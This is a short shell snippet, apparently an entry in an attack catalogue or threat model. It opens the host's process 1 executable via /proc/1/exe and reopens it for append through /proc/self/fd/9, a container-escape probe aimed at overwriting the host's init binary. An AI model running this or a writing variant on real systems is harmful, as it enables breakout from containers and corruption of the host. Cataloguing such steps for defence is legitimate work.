# overwrite the program of process 1 by a descriptor of it
# held by: mount
# control: none, the host's own process 1 is nobody's to open
exec 9< /proc/1/exe || exit 1
: >> /proc/self/fd/9
